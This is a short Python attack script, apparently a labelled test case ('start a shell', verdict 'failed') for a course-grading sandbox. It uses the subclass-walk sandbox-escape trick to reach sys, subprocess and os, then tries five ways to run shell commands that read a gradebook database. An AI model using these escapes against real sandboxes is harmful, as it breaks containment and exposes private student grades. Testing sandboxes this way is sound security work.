# /// attack
# rows = [73]
# title = "start a shell"
# verdict = "failed"
# ///
sys = next(
    c for c in ().__class__.__base__.__subclasses__() if c.__name__ == "catch_warnings"
)()._module.sys

subprocess, os = sys.modules["importlib"].import_module("subprocess"), sys.modules["os"]
for start in (
    lambda: subprocess.check_output(["/bin/sh", "-c", "cat COURSE/gradebook.db"]),
    lambda: os.popen("cat COURSE/gradebook.db").read(),
    lambda: os.system("cat COURSE/gradebook.db > /tmp/attack-left-shell"),
    lambda: get_ipython().getoutput("cat COURSE/gradebook.db"),
    lambda: os.posix_spawn("/bin/cat", ["cat", "COURSE/gradebook.db"], {}),
):
    try:
        print(start())
    except Exception as error:
        print(type(error).__name__)
